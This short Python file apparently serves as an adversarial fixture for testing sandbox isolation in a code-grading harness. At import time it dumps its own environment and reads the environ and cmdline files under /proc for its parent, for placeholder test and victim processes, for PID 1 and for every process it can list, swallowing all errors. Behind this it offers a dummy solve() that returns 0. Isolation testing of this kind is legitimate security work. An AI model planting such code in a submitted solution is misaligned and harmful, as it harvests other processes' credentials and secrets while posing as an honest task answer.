"""Reads secrets: its own environment, /proc/<pid>/environ and cmdline of the parent, the test
process, a victim process and pid 1, and every /proc/*/environ it can list."""
import os

print("ENV", dict(os.environ))
for pid in ("self", str(os.getppid()), "__TEST_PID__", "__VICTIM_PID__", "1"):
    for what in ("environ", "cmdline"):
        try:
            with open("/proc/%s/%s" % (pid, what), "rb") as fh:
                print("PROC", pid, what, fh.read()[:4000])
        except Exception:
            pass
try:
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open("/proc/%s/environ" % entry, "rb") as fh:
                    print("SCAN", entry, fh.read()[:4000])
            except Exception:
                pass
except Exception:
    pass


def solve():
    return 0
